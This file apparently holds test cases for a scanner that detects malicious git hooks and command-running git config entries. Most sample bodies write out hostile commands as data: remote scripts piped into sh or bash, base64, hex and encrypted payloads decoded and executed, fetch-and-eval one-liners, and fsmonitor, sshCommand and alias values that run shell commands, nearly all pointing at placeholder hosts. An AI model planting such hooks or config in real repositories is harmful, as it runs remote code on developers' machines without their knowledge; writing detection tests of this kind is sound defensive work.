from _kit import fires, silent, sample, ref

fires("hook_curl_pipe_sh", "git_hook_runs_payload", "critical",
      sample("post-checkout-curl.sh", "#!/bin/sh\ncurl -fsSL https://cdn.example.net/x.sh | bash\n"),
      ".git/hooks/post-checkout", "755")
fires("husky_hook_base64", "git_hook_runs_payload", "critical",
      sample("husky-pre-commit-b64.sh", "#!/bin/sh\necho Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= | base64 -d | sh\nnpx lint-staged\n"),
      ".husky/pre-commit", "644")
silent("hook_sample_with_curl", "git_hook_runs_payload",
       ref("post-checkout-curl.sh"), ".git/hooks/post-checkout.sample", "755")
fires("hook_executable", "git_hook_added", "high",
      sample("pre-commit-lint.sh", "#!/bin/sh\nnpx lint-staged\n"), ".git/hooks/pre-commit", "755")
fires("submodule_hook_executable", "git_hook_added", "high",
      ref("pre-commit-lint.sh"), ".git/modules/vendor/lib/hooks/pre-push", "755")
silent("hook_not_executable", "git_hook_added", ref("pre-commit-lint.sh"), ".git/hooks/pre-commit", "644")
fires("fsmonitor_command", "git_config_fsmonitor_command", "critical",
      sample("config-fsmonitor", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = .git/info/fsm.sh\n"),
      ".git/config")
fires("fsmonitor_in_global_config", "git_config_fsmonitor_command", "critical",
      sample("gitconfig-fsmonitor", "[user]\n\tname = Dev\n[core]\n\tfsmonitor = \"sh -c 'id > /tmp/p'\"\n"),
      ".gitconfig")
silent("fsmonitor_builtin", "git_config_fsmonitor_command",
       sample("config-fsmonitor-true", "[core]\n\tbare = false\n\tfsmonitor = true\n\tuntrackedCache = true\n"),
       ".git/config")
fires("config_ssh_command", "git_config_runs_command", "high",
      sample("config-sshcommand", "[core]\n\tbare = false\n\tsshCommand = ssh -o ProxyCommand='sh -c \"id>/tmp/o\"'\n[remote \"origin\"]\n\turl = git@github.com:a/b.git\n"),
      ".git/config")
fires("config_smudge_filter", "git_config_runs_command", "high",
      sample("config-filter", "[core]\n\tbare = false\n[filter \"fmt\"]\n\tsmudge = ./tools/fmt --restore\n\tclean = cat\n"),
      ".git/modules/lib/config")
fires("config_pager", "git_config_runs_command", "high",
      sample("config-pager", "[core]\n\tbare = false\n\tpager = ./.git/p.sh\n"), ".git/config")
silent("config_husky_and_lfs", "git_config_runs_command",
       sample("config-husky-lfs", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\thooksPath = .husky/_\n"
              "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n"
              "[remote \"origin\"]\n\turl = https://github.com/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
              "[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"),
       ".git/config")
silent("global_config_pager", "git_config_runs_command",
       sample("gitconfig-delta", "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n[diff]\n\texternal = difft\n"),
       ".gitconfig")

# Hooks: every way of fetching or decoding code and running it, each beside a hook that does the
# harmless half of it.
for case, name, body in [
    ("hook_source_process_subst", "post-merge-source", "#!/bin/bash\nsource <(curl -s https://hooks.example.org/m)\n"),
    ("hook_bash_c_subst", "pre-push-bash-c", "#!/bin/sh\nbash -c \"$(wget -qO- https://hooks.example.org/p)\"\ngit lfs pre-push \"$@\"\n"),
    ("hook_download_chmod_run", "post-checkout-dl",
     "#!/bin/sh\ncurl -fsSL -o /tmp/.gc https://cdn.example.net/gc\nchmod +x /tmp/.gc\n/tmp/.gc &\n"),
    ("hook_xxd_hex", "pre-commit-xxd", "#!/bin/sh\necho 6375726c202d73206874747073 | xxd -r -p | sh\n"),
    ("hook_openssl_decode", "commit-msg-openssl",
     "#!/bin/sh\nopenssl enc -d -aes-256-cbc -pbkdf2 -k k -in .git/info/blob | bash\n"),
    ("hook_printf_escapes", "pre-rebase-printf", "#!/bin/sh\nprintf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73' | sh\n"),
    ("hook_python_urllib_exec", "post-commit-py",
     "#!/bin/sh\npython3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example/a').read())\"\n"),
    ("hook_node_fetch_eval", "post-rewrite-node",
     "#!/bin/sh\nnode -e \"fetch('https://x.example/a').then(r=>r.text()).then(t=>eval(t))\"\n"),
    ("hook_crlf", "pre-commit-crlf", "#!/bin/sh\r\nwget -qO- http://203.0.113.5/a | sh\r\n"),
]:
    fires(case, "git_hook_runs_payload", "critical", sample(name, body), ".git/hooks/" + name.rsplit("-", 1)[0], "755")
silent("hook_downloads_without_running", "git_hook_runs_payload",
       sample("pre-push-fetch-only", "#!/bin/sh\ncurl -fsSL -o .git/lfs-version https://api.example.org/lfs/version\n"
              "echo 'see https://example.org/docs' | sed 's/x/y/'\nbase64 -d < notes.b64 > notes.txt\n"),
       ".git/hooks/pre-push", "755", also="git_hook_added")

# Command-valued config written in any letter case, and in the user's own config.
fires("config_upper_case_fsmonitor", "git_config_fsmonitor_command", "critical",
      sample("config-upper-fsmonitor", "[CORE]\n\tRepositoryFormatVersion = 0\n\tFsMonitor = \"./.git/fsm\"\n"), ".git/config")
# A payload in core.fsmonitor is one critical finding, not two (the payload rule reads another view).
fires("config_fsmonitor_payload_once", "git_config_fsmonitor_command", "critical",
      sample("config-fsmonitor-payload", "[core]\n\tfsmonitor = \"sh -c 'cu\"\"rl -s https://x.example/f | sh'\"\n"),
      ".git/config")
fires("config_alias_curl", "git_config_command_payload", "critical",
      sample("gitconfig-alias-curl", "[user]\n\tname = Dev\n[Alias]\n\tst = \"!curl -s https://x.example/g | sh; git status\"\n"),
      ".gitconfig")
silent("config_alias_log", "git_config_command_payload",
       sample("gitconfig-alias-log", "[alias]\n\tlg = \"!git log --graph --oneline | less\"\n"
              "\tweb = \"!f() { xdg-open https://github.com/$(git remote get-url origin | sed 's/.*://'); }; f\"\n"),
       ".gitconfig")
for case, name, body in [
    ("config_upper_case_hookspath", "config-hookspath", "[core]\n\tbare = false\n\tHooksPath = .git/info/h\n"),
    ("config_alias_shell", "config-alias", "[core]\n\tbare = false\n[alias]\n\tco = !./tools/co.sh\n"),
    ("config_include", "config-include", "[core]\n\tbare = false\n[includeIf \"gitdir:~/\"]\n\tpath = ../.cfg/extra\n"),
    ("config_editor", "config-editor", "[core]\n\tbare = false\n\teditor = .git/ed\n"),
]:
    fires(case, "git_config_runs_command", "high", sample(name, body), ".git/config")
fires("global_config_filter_in_tmp", "git_config_runs_command", "high",
      sample("gitconfig-filter-tmp", "[filter \"crlf\"]\n\tclean = /tmp/.x/clean\n\tsmudge = cat\n"), ".gitconfig")
silent("global_config_includes_and_aliases", "git_config_runs_command",
       sample("gitconfig-ordinary", "[include]\n\tpath = ~/.gitconfig.local\n[alias]\n\tst = status -sb\n"
              "\tamend = !git commit --amend --no-edit\n[core]\n\teditor = nvim\n\tpager = less -FRX\n"
              "[remote \"origin\"]\n\turl = ../mirror.git\n"),
       ".gitconfig")
fires("hooks_path_folder_payload", "git_hook_runs_payload", "critical",
      sample("githooks-pre-commit", "#!/usr/bin/env bash\nset -e\nnpm run lint\ncurl -sL https://203.0.113.3/h | bash &\n"),
      "tools/git-hooks/pre-commit", "755")
silent("hook_crlf_printf_colours", "git_hook_runs_payload",
       sample("pre-commit-crlf-ok", "#!/bin/sh\r\nprintf '\\x1b[32m\\x1b[1mlint\\x1b[0m\\n'\r\nnpx lint-staged\r\n"),
       ".git/hooks/pre-commit", "755", also="git_hook_added")
silent("config_upper_case_builtin_fsmonitor", "git_config_fsmonitor_command",
       sample("config-upper-builtin", "[Core]\n\tBare = false\n\tFsMonitor = TRUE\n\tUntrackedCache = true\n"), ".git/config")
fires("hook_powershell_iwr_iex", "git_hook_runs_payload", "critical",
      sample("pre-commit-iwr", "#!/bin/sh\npowershell.exe -NoProfile -Command \"iwr -useb https://203.0.113.3/p.ps1 | iex\"\n"),
      ".githooks/pre-commit", "755")
